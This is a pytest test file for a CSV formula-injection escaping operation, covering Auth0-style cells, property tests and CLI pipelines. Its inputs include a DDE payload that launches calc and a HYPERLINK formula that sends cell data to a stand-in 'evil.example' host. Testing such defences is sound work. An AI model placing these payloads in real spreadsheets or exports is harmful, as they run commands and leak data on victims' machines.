"""escape-csv: the pure op, its cooperation with csv (Auth0's exact cells), and the CLI."""

from __future__ import annotations

import csv as stdlib_csv
import io
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ndpipe.csvio import is_iso_datetime
from ndpipe.ops.escape_csv import escape_auth0, escape_csv, escape_formula, unescape
from tests.conftest import FIXTURES, ndjson, records, run_ndpipe, shell

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
SIGNS = "=+-@"


@pytest.mark.parametrize("first", TRIGGERS)
def test_formula_prefixes_strings_that_start_with_a_trigger(first):
    assert escape_formula(first + "SUM(A1)") == "'" + first + "SUM(A1)"


@pytest.mark.parametrize(
    "text",
    [
        "=1",
        "-2+3",
        "+1+cmd|' /C calc'!A0",
        "+1-555-0100",  # a spreadsheet computes it: -654
        "+1 415 555 0100",
        "@SUM(A1:A9)",
        "-",
        "+",
        "-1,000",
        "+14155550100 ",
        "=-12.5",
        "\x00=1",
        "\tTabbed",
        "\rCarriage",
        "\x00x",
        # signs behind characters spreadsheets strip or do not show
        " =1",
        "   +1+1",
        "\n=x",
        "\u00a0=x",
        "\u3000@x",
        "\ufeff=1",
        "\u200b=1",
        "\u200b\u200c\u200d\u2060-2+3",
        "\u202e@x",
        "\x0b-x",
        "\u0085=x",
    ],
)
def test_formula_escapes_what_a_spreadsheet_could_run(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "jane",
        "a=b",
        "'already",
        "'=x",
        "1+1",
        "é",
        "O'Brien",
        " padded",
        "\u200bjane",
        "\ufeff",
        " ",
        # entirely a number: a spreadsheet reads a number, and a CRM must get it unchanged
        "+14155550100",
        "+6421555010",
        "-12.5",
        "-0",
        "+.5",
        "-7.",
        "-1e5",
        "+2.5E-3",
        "-123456789012345678901234567890",
        " -12.5",
        "\u200b+14155550100",
    ],
)
def test_formula_leaves_other_strings_alone(text):
    assert escape_formula(text) == text


def spreadsheet_runs(cell: str) -> bool:
    """A pessimistic model of a spreadsheet opening a cell: it drops leading white space,
    control and format characters, and then runs anything that starts with a sign and is not a
    plain number, or starts with tab or CR. A leading ' makes the cell text."""
    if cell[:1] == "'":
        return False
    if cell[:1] in ("\t", "\r", "\x00"):
        return True
    index = 0
    while index < len(cell) and unicodedata.category(cell[index]) in ("Zs", "Zl", "Zp", "Cc", "Cf"):
        index += 1
    rest = cell[index:]
    number = re.fullmatch(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", rest)
    return rest[:1] in ("=", "+", "-", "@") and number is None


HOSTILE_TEXT = st.one_of(
    st.text(),
    st.builds(
        lambda hidden, sign, rest: hidden + sign + rest,
        st.text(
            st.sampled_from(" \t\n\r\x00\u00a0\ufeff\u200b\u200d\u2060\u202e\u3000"), max_size=3
        ),
        st.sampled_from(SIGNS),
        st.one_of(st.text(max_size=8), st.from_regex(r"[0-9]{1,16}(\.[0-9]*)?", fullmatch=True)),
    ),
)


@given(HOSTILE_TEXT)
def test_formula_output_is_never_run_by_a_spreadsheet(text):
    escaped = escape_formula(text)
    assert escaped in (text, "'" + text)
    assert not spreadsheet_runs(escaped)
    # Only what a spreadsheet would run is changed.
    assert (escaped != text) == spreadsheet_runs(text)


@pytest.mark.parametrize(
    "text",
    ["2017-11-02T23:34:03.803Z", "2024-01-01T12:00:00+00:00", "2021-09-16T03:24:32Z"],
)
def test_auth0_leaves_iso_datetimes_bare(text):
    assert is_iso_datetime(text)
    assert escape_auth0(text) == text


@pytest.mark.parametrize(
    "text", ["", "jane@example.com", "2017-11-02", "2017-11-02 23:34:03", "'x", "true", "19"]
)
def test_auth0_prefixes_every_other_string(text):
    assert escape_auth0(text) == "'" + text


def test_unescape_removes_exactly_one_quote():
    assert unescape("'jane") == "jane"
    assert unescape("''jane") == "'jane"  # a value that really started with '
    assert unescape("jane") == "jane"
    assert unescape("'") == ""
    assert unescape("") == ""


def test_op_escapes_nested_objects_but_not_arrays_or_other_types():
    record: dict[str, Any] = {
        "email": "jane@example.com",
        "n": 19,
        "ok": True,
        "gone": None,
        "created_at": "2017-11-02T23:34:03.803Z",
        "user_metadata": {"name": "=cmd", "deep": {"x": "y"}, "empty": None},
        "roles": ["=admin", "user"],
    }
    (auth0,) = escape_csv(
        [dict(record, user_metadata=dict(record["user_metadata"]))], style="auth0"
    )
    assert auth0 == {
        "email": "'jane@example.com",
        "n": 19,
        "ok": True,
        "gone": None,
        "created_at": "2017-11-02T23:34:03.803Z",
        "user_metadata": {"name": "'=cmd", "deep": {"x": "'y"}, "empty": None},
        "roles": ["=admin", "user"],
    }
    (formula,) = escape_csv([{"a": "=1", "b": "ok", "m": {"c": "-2+1"}, "r": ["=x"]}])
    assert formula == {"a": "'=1", "b": "ok", "m": {"c": "'-2+1"}, "r": ["=x"]}
    (undone,) = escape_csv([auth0], undo=True)
    assert undone == record


def test_style_none_passes_records_unchanged():
    data = [{"a": "=1", "b": "'x"}]
    assert list(escape_csv(data, style="none")) == [{"a": "=1", "b": "'x"}]


@given(HOSTILE_TEXT)
def test_formula_output_never_starts_with_a_trigger_and_is_idempotent(text):
    escaped = escape_formula(text)
    assert escaped[:1] not in ["=", "@", "\t", "\r"]
    assert escaped[:1] not in ("+", "-") or re.fullmatch(r"[+-][0-9.eE+-]*", escaped)
    assert escape_formula(escaped) == escaped
    assert escaped in (text, "'" + text)


def test_keys_are_left_to_csv():
    (record,) = escape_csv([{"=HYPERLINK(1)": "=x", "m": {"@k": "ok"}}])
    assert record == {"=HYPERLINK(1)": "'=x", "m": {"@k": "ok"}}


def nested(depth: int, leaf: Any) -> dict[str, Any]:
    record: dict[str, Any] = {"v": leaf}
    for _ in range(depth - 1):
        record = {"v": record}
    return record


@pytest.mark.parametrize("style", ["formula", "auth0"])
def test_records_nested_a_thousand_levels_deep(style):
    # Iterative code: no recursion limit applies (pytest runs at Python's default of 1,000).
    (record,) = escape_csv([nested(1000, "=x")], style=style)
    assert innermost(record, 999) == {"v": "'=x"}
    (undone,) = escape_csv([record], undo=True)
    assert innermost(undone, 999) == {"v": "=x"}


def innermost(record: dict[str, Any], depth: int) -> dict[str, Any]:
    # Comparing whole 1,000-deep dicts would recurse in C past Python's default limit.
    for _ in range(depth):
        record = record["v"]
    return record


@given(st.text())
def test_unescape_undoes_both_styles(text):
    assert unescape(escape_formula(text)) == text or text.startswith("'")
    if not is_iso_datetime(text):
        assert unescape(escape_auth0(text)) == text


# --- through the CLI ------------------------------------------------------------------------

AUTH0_EXAMPLES: list[dict[str, Any]] = [
    {"email": 'a"b@x.com', "created_at": "2017-11-02T23:34:03.803Z", "ok": True, "n": 19},
    {"email": "jane@example.com", "created_at": None, "ok": False, "n": 0},
]


def test_auth0_style_and_csv_give_auth0_exact_cells():
    result = shell("ndpipe escape-csv --style auth0 | ndpipe csv", input=ndjson(AUTH0_EXAMPLES))
    assert result.returncode == 0, result.stderr
    assert result.stderr == b""
    assert result.stdout.decode().splitlines() == [
        "email,created_at,ok,n",
        '"\'a""b@x.com",2017-11-02T23:34:03.803Z,true,19',
        '"\'jane@example.com",,false,0',
    ]


def test_auth0_style_and_csv_reproduce_the_auth0_fixture_byte_for_byte():
    # fixtures/csv/auth0-export.csv was written by a separate encoder that follows AUTH0.md 1.6
    # literally (see tests/test_csv_read.py, which re-checks it).
    pipeline = "ndpipe escape-csv --style auth0 < fixtures/csv/auth0-export.ndjson | ndpipe csv"
    result = shell(pipeline)
    assert result.returncode == 0, result.stderr
    assert result.stdout == (FIXTURES / "csv" / "auth0-export.csv").read_bytes()


def test_formula_default_through_csv_is_safe_in_a_spreadsheet():
    pipeline = "ndpipe select email given_name family_name name | ndpipe escape-csv | ndpipe csv"
    result = shell(pipeline, input=(FIXTURES / "users.ndjson").read_bytes())
    assert result.returncode == 0, result.stderr
    rows = list(stdlib_csv.reader(io.StringIO(result.stdout.decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert all(cell[:1] not in TRIGGERS for cell in cells)
    assert "jane.doe0@example.com" in cells  # ordinary strings are not prefixed


def test_unescape_cli_and_conflicting_options():
    result = run_ndpipe("escape-csv", "--unescape", input=ndjson([{"a": "''x", "b": "'y", "c": 1}]))
    assert result.returncode == 0, result.stderr
    assert records(result.stdout) == [{"a": "'x", "b": "y", "c": 1}]
    result = run_ndpipe("escape-csv", "--unescape", "--style", "auth0", input=b'{"a":"x"}\n')
    assert result.returncode == 2
    assert b"--unescape" in result.stderr and result.stdout == b""
    result = run_ndpipe("escape-csv", "--style", "excel", input=b"")
    assert result.returncode == 2


# --- golden pipelines: fixtures/escape-csv/<case>/{cmd,out} ---------------------------------

CASES = sorted((FIXTURES / "escape-csv").glob("*/cmd"))


def test_there_are_golden_cases():
    assert len(CASES) >= 3


@pytest.mark.parametrize("cmd", CASES, ids=lambda path: path.parent.name)
def test_golden(cmd: Path) -> None:
    result = shell(cmd.read_text().strip(), input=(FIXTURES / "users.ndjson").read_bytes())
    assert result.returncode == 0, result.stderr
    assert result.stdout == (cmd.parent / "out").read_bytes()
